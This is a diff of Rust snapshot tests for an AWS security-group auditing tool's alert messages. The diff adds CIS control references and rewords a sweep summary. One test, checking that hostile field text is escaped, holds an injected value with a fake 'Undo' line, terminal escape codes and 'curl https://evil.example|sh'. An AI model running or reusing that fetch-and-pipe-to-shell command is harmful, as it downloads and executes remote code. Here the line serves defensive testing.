@@ -29,6 +29,7 @@ fn narrowed_open_ssh() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -57,6 +58,7 @@ fn reverted_open_ssh_without_sources() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -93,6 +95,7 @@ fn reverted_all_tcp_ports() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -116,6 +119,7 @@ fn a_revert_that_failed() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -148,6 +152,7 @@ fn a_revert_that_took_too_much() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -171,6 +176,7 @@ fn under_notify() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -194,6 +200,7 @@ fn already_gone() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -268,6 +275,7 @@ fn smtp_of_a_development_server() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: egress-not-in-baseline, low, baseline standard 1a2b3c4d5e6f, fingerprint 60303ae22b998861
     "#);
 }
@@ -315,6 +323,7 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
     If it was needed: add the addresses that need SSH to the SSH sources.
 
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
     finding.change = Some(FindingChange::default());
@@ -332,6 +341,7 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
     If it was needed: add the addresses that need SSH to the SSH sources.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did.
 
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
 }
@@ -363,6 +373,7 @@ fn both_families_in_one_call() {
     Connections that only this rule let in were untracked and ended with it.
     To undo:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, fingerprint 9f86d081884c7d65
 
     2. SSH was open to the Internet on typo3-shop
@@ -373,6 +384,7 @@ fn both_families_in_one_call() {
     Connections that only this rule let in were untracked and ended with it.
     To undo:
     aws ec2 authorize-security-group-ingress …
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, fingerprint 2c26b46b68ffc68f
 
     If it was needed: add the addresses that need SSH to the SSH sources.
@@ -413,6 +425,7 @@ fn a_sweep_of_many_groups() {
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     A revert would keep: tcp 22 from 203.0.113.0/24
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, fingerprint 9f86d081884c7d65
 
     2. Tcp 3306 is open to the Internet on typo3-shop
@@ -421,6 +434,7 @@ fn a_sweep_of_many_groups() {
     Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
     Too much: tcp 3306 from anywhere
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861
 
     3. Tcp 3306 is open to the Internet on typo3-shop
@@ -429,35 +443,36 @@ fn a_sweep_of_many_groups() {
     Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
     Too much: tcp 3306 from anywhere
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861
 
-    4. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-3, ingress-not-in-baseline, high
-    5. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-4, ingress-not-in-baseline, high
-    6. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-5, ingress-not-in-baseline, high
-    7. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-6, ingress-not-in-baseline, high
-    8. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-7, ingress-not-in-baseline, high
-    9. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-8, ingress-not-in-baseline, high
-    10. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-9, ingress-not-in-baseline, high
-    11. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-10, ingress-not-in-baseline, high
-    12. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-11, ingress-not-in-baseline, high
-    13. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-12, ingress-not-in-baseline, high
-    14. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-13, ingress-not-in-baseline, high
-    15. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-14, ingress-not-in-baseline, high
-    16. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-15, ingress-not-in-baseline, high
-    17. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-16, ingress-not-in-baseline, high
-    18. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-17, ingress-not-in-baseline, high
-    19. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-18, ingress-not-in-baseline, high
-    20. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-19, ingress-not-in-baseline, high
-    21. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-20, ingress-not-in-baseline, high
-    22. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-21, ingress-not-in-baseline, high
-    23. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-22, ingress-not-in-baseline, high
+    4. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-3", ingress-not-in-baseline, high
+    5. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-4", ingress-not-in-baseline, high
+    6. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-5", ingress-not-in-baseline, high
+    7. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-6", ingress-not-in-baseline, high
+    8. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-7", ingress-not-in-baseline, high
+    9. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-8", ingress-not-in-baseline, high
+    10. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-9", ingress-not-in-baseline, high
+    11. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-10", ingress-not-in-baseline, high
+    12. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-11", ingress-not-in-baseline, high
+    13. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-12", ingress-not-in-baseline, high
+    14. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-13", ingress-not-in-baseline, high
+    15. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-14", ingress-not-in-baseline, high
+    16. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-15", ingress-not-in-baseline, high
+    17. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-16", ingress-not-in-baseline, high
+    18. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-17", ingress-not-in-baseline, high
+    19. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-18", ingress-not-in-baseline, high
+    20. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-19", ingress-not-in-baseline, high
+    21. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-20", ingress-not-in-baseline, high
+    22. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-21", ingress-not-in-baseline, high
+    23. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-22", ingress-not-in-baseline, high
     and 7 more; sg-audit check lists them all.
 
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
     If it was needed: add the addresses that need SSH to the SSH sources; add the traffic to the baseline.
 
     This is part 1 of 2.
-    Not everything was audited.
+    This is not all yet: the rest is being audited, and follows in another message.
     Reference: baseline standard 1a2b3c4d5e6f
     "#);
 }
@@ -485,6 +500,7 @@ fn a_long_excess_and_a_long_undo() {
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     "#);
 }
@@ -531,6 +547,7 @@ fn hostile_text_in_every_field() {
     The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" on.
 
+    Controls: CIS 5.0.0 5.3, EC2.13
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
     "#);
 }
